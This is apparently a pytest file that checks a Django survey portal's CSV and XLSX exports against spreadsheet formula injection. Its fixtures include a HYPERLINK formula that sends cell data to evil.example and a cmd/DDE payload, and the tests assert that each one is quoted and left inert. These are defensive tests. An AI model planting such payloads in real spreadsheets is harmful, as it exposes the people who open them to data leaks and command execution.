"""Exports: responses (CSV and XLSX) with a fixed schema, equality answers apart, a summary;
every one written by `portal.spreadsheets`, so nothing a resident typed runs as a formula."""

import csv
import io

import pytest
from django.urls import reverse

from portal.neighbourhoods.models import Neighbourhood
from portal.spreadsheets import write_csv
from surveys.exports import EXPORT_FIXED, aggregate_rows, export_rows
from surveys.models import Question, Response
from surveys.results import compute_results
from tests.conftest import make_user

from .conftest import q, respond

PAYLOAD = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'

pytestmark = pytest.mark.django_db


def test_aggregate_and_response_exports(answered):
    rows = list(export_rows(answered))
    header = rows[0]
    assert header[:len(EXPORT_FIXED)] == EXPORT_FIXED
    assert len(rows) == 11
    assert "What is your age?" not in header  # equality answers are exported separately
    ranking_column = header.index("Rank these issues for your area")
    assert "1. Housing; 2. Safety; 3. Isolation" in [r[ranking_column] for r in rows]
    equality = list(export_rows(answered, equality=True))
    assert equality[0][0] == "channel" and len(equality) == 7
    assert not any(r.reference in str(equality) for r in Response.objects.all())
    summary = list(csv.reader(io.StringIO(write_csv(aggregate_rows(compute_results(answered))))))
    assert ["Do you have children under 5?", "single_choice", "9", "Yes", "6", "66.7", "", "",
            ""] in summary


def test_xlsx_export(answered, client, settings):
    from openpyxl import load_workbook

    settings.PORTAL_REQUIRE_STAFF_MFA = False
    client.force_login(make_user("o5@example.org", "Officers"))
    r = client.get(reverse("surveys_admin:export_xlsx", args=[answered.pk]))
    assert r.status_code == 200
    sheet = load_workbook(io.BytesIO(r.content)).active
    rows = list(sheet.values)
    assert list(rows[0][:len(EXPORT_FIXED)]) == EXPORT_FIXED and len(rows) == 11


# --- formula injection: a cell a spreadsheet would run gets a quote in front -----------------

def _officer(client, settings, **extra):
    settings.PORTAL_REQUIRE_STAFF_MFA = False
    client.force_login(make_user("exports@example.org", "Officers", **extra))


def _csv(response) -> list[list[str]]:
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert "no-store" in response["Cache-Control"]
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(body.decode())))


def test_responses_csv_cannot_run_a_free_text_formula(survey, client, settings):
    respond(survey, single="Yes", number=-3, text=PAYLOAD)
    respond(survey, single="No", text="-2+3+cmd|' /C calc'!A0")
    respond(survey, single="No", text="@SUM(1+1)")
    _officer(client, settings)
    rows = _csv(client.get(reverse("surveys_admin:export_responses", args=[survey.pk])))
    text = rows[0].index("Anything else?")
    number = rows[0].index("How many people live in your home?")
    assert sorted(row[text] for row in rows[1:]) == sorted(
        ["'" + PAYLOAD, "'-2+3+cmd|' /C calc'!A0", "'@SUM(1+1)"])
    assert "-3" in [row[number] for row in rows[1:]]  # a negative number stays a number


def test_responses_xlsx_stores_a_free_text_formula_as_text(survey, client, settings):
    from openpyxl import load_workbook

    respond(survey, single="Yes", number=-3, text=PAYLOAD)
    respond(survey, single="No", text="tab\there, bell\x07 there")
    _officer(client, settings)
    response = client.get(reverse("surveys_admin:export_xlsx", args=[survey.pk]))
    assert response.status_code == 200 and "no-store" in response["Cache-Control"]
    assert response["Content-Disposition"] == (
        f'attachment; filename="{survey.slug}-responses.xlsx"')
    sheet = load_workbook(io.BytesIO(response.content)).active
    header = [cell.value for cell in sheet[1]]
    cells = [row[header.index("Anything else?")] for row in sheet.iter_rows(min_row=2)]
    assert sorted(c.value for c in cells) == sorted(
        ["'" + PAYLOAD, "tab\there, bell\ufffd there"])
    assert all(c.data_type == "s" for c in cells)
    assert not [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]


def test_summary_csv_cannot_run_a_formula_in_a_question_or_option(survey, client, settings):
    single = q(survey, Question.SINGLE)
    Question.objects.filter(pk=single.pk).update(label=PAYLOAD)
    single.options.filter(label="Yes").update(label="+Yes+A1")
    for _ in range(5):
        respond(survey, single="+Yes+A1")
    _officer(client, settings)
    rows = _csv(client.get(reverse("surveys_admin:export_aggregate", args=[survey.pk])))
    mine = [row for row in rows if row[0] == "'" + PAYLOAD]
    assert mine and "'+Yes+A1" in [row[3] for row in mine]
    assert not any(cell.startswith(("=", "+", "@")) for row in rows for cell in row)


def test_equality_csv_cannot_run_a_formula_in_a_neighbourhood_name(survey, client, settings):
    harlesden = Neighbourhood.objects.get(name="Harlesden")
    Neighbourhood.objects.filter(pk=harlesden.pk).update(name=PAYLOAD)
    respond(survey, single="Yes", neighbourhood=harlesden.pk, equality="25 to 34")
    _officer(client, settings, is_superuser=True)
    rows = _csv(client.get(reverse("surveys_admin:export_equality", args=[survey.pk])))
    assert rows[1][:2] == ["online", "'" + PAYLOAD]
